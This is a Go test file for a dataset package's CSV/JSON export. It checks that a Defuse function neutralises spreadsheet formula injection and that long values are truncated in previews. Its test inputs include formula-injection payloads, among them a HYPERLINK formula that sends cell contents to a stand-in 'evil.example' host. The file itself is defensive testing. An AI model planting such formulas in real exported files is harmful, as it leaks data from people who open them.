package dataset

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// testSchemaHead is a schema up to its list of columns.
const testSchemaHead = "title: t\nsource: s\nlicence: l\nupdated: 2026-03-31\ntopic: governance\ncolumns:\n"

func TestDefuse(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"白浪社区", "白浪社区"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"+86 719 123", "'+86 719 123"},
		{"-5", "'-5"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
		{"１＝１", "１＝１"},
	}
	for _, tt := range tests {
		if got := Defuse(tt.in); got != tt.want {
			t.Errorf("Defuse(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestExportDefused writes a dataset whose text cells and column names
// start formulas: the CSV download defuses them in text columns only, and
// the JSON download keeps every value exact.
func TestExportDefused(t *testing.T) {
	d := mustSchema(t, testSchemaHead+`  - {name: "=cmd", type: string}
  - {name: kind, type: category}
  - {name: delta, type: int}
  - {name: share, type: percent}
  - {name: day, type: date}
`)
	in := "=cmd,kind,delta,share,day\n" +
		"\"=HYPERLINK(\"\"http://evil.example\"\",\"\"点击\"\")\",@SUM(A1),-5,-3.5%,2026-03-05\n" +
		"-5,+1,+7,1,2026-03-06\n" +
		"\"\r=1\",普通,0,0,\n"
	if errs := d.ParseCSV([]byte(in)); len(errs) > 0 {
		t.Fatal(errs.Err())
	}
	var b bytes.Buffer
	if err := d.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"'=cmd", "kind", "delta", "share", "day"},
		{`'=HYPERLINK("http://evil.example","点击")`, "'@SUM(A1)", "-5", "-3.5", "2026-03-05"},
		{"'-5", "'+1", "7", "1", "2026-03-06"},
		// encoding/csv with CRLF drops a lone \r: undefused, "=1" would be left.
		{"'=1", "普通", "0", "0", ""},
	}
	if len(recs) != len(want) {
		t.Fatalf("WriteCSV gave %d records, want %d:\n%s", len(recs), len(want), b.String())
	}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Errorf("WriteCSV record %d field %d = %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
	b.Reset()
	if err := d.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	var got struct{ Rows []map[string]any }
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if v := got.Rows[0]["=cmd"]; v != `=HYPERLINK("http://evil.example","点击")` {
		t.Errorf("WriteJSON row 0 =cmd = %q, want the value exactly", v)
	}
	if v := got.Rows[1]["kind"]; v != "+1" {
		t.Errorf("WriteJSON row 1 kind = %q, want +1", v)
	}
}

// TestPageTruncates checks that a preview shows the start of a long value,
// marked as cut, and short values whole.
func TestPageTruncates(t *testing.T) {
	d := mustSchema(t, testSchemaHead+`  - {name: note, type: string}
`)
	long := strings.Repeat("长", CellChars) + "尾"
	if errs := d.ParseCSV([]byte("note\n" + long + "\n" + strings.Repeat("短", CellChars) + "\n")); len(errs) > 0 {
		t.Fatal(errs.Err())
	}
	page := d.Page(0, 2)
	if c := page[0][0]; !c.Cut || c.Text != strings.Repeat("长", CellChars-1)+"…" {
		t.Errorf("Page row 0 = %+v, want the first %d characters and an ellipsis, cut", c, CellChars-1)
	}
	if c := page[1][0]; c.Cut || c.Text != strings.Repeat("短", CellChars) {
		t.Errorf("Page row 1 = %+v, want the whole value of %d characters", c, CellChars)
	}
	sets := []*Dataset{d}
	d.Name = "notes"
	if got, err := Eval(sets, "notes | first note"); err != nil || got != page[0][0].Text {
		t.Errorf("Eval(first note) = %q…, %v; want the cut value", Truncate(got, 5), err)
	}
}
